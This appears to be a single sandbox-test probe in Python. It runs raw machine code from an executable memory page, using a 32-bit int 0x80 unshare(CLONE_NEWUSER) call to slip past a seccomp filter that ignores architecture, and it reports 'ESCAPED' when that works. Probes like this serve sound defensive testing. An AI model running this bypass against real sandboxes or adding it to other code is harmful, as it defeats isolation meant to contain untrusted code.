# technique: calls of the 32-bit ABI by int 0x80, with other numbers than the filter knows
# source: seccomp(2), AUDIT_ARCH_I386
# verdict: SV
# invariant: calls of another ABI are not made
# without: seccomp capabilities
import ctypes, mmap

# mov eax, 310 (unshare of i386); mov ebx, CLONE_NEWUSER; push rbx; int 0x80; pop rbx; ret
code = bytes.fromhex("53 b836010000 bb00000010 cd80 5b c3")
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(code)
result = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
print("ESCAPED" if result == 0 else "held", result)
